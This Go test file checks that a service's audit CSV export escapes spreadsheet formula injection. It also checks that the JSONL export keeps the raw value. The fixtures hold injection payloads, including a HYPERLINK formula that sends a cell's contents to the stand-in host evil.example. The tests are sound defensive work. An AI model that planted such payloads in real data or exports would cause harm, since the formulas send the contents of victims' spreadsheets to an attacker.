package admin

import (
	"bytes"
	"context"
	"encoding/csv"
	"testing"
	"time"

	"github.com/piiguard/piiguard/shared/store"
	"github.com/piiguard/piiguard/shared/store/memory"
)

func TestCSVCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"cards", "cards"},
		{"acme-eu", "acme-eu"},
		{`=HYPERLINK("https://evil.example","x")`, `'=HYPERLINK("https://evil.example","x")`},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"a=1", "a=1"},
	} {
		if got := CSVCell(tc.in); got != tc.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestExportAuditCSVCellsAreInert: a tenant names its own policies, and the
// operator opens the tenant's audit export in a spreadsheet: a name that
// starts a formula must reach the sheet as text. The JSON lines keep it as
// it is.
func TestExportAuditCSVCellsAreInert(t *testing.T) {
	m := memory.New()
	ctx := context.Background()
	evil := `=HYPERLINK("https://evil.example/?"&A1,"open")`
	_ = m.WriteAudit(ctx, store.AuditRecord{RequestID: "r1", TenantID: "acme", KeyID: "k1", Time: t0, Region: "eu-central-1",
		Operation: "detect", Method: "POST", Policy: evil, Characters: 10, Status: 200})
	svc := &Service{Keys: m, Policies: m, Audit: m, Now: func() time.Time { return t0 }}

	var b bytes.Buffer
	if err := svc.ExportAudit(ctx, &b, "acme", t0, t0.Add(time.Hour), FormatCSV); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%v %q", err, rows)
	}
	if got := rows[1][7]; got != "'"+evil {
		t.Errorf("policy cell %q, want it quoted as text", got)
	}
	if rows[1][0] != "r1" || rows[1][2] != "acme" || rows[1][10] != "200" {
		t.Errorf("other cells changed: %q", rows[1])
	}

	b.Reset()
	if err := svc.ExportAudit(ctx, &b, "acme", t0, t0.Add(time.Hour), FormatJSONL); err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(b.Bytes(), []byte(`"policy":"=HYPERLINK(`)) {
		t.Errorf("jsonl changed the policy name: %s", b.Bytes())
	}
}
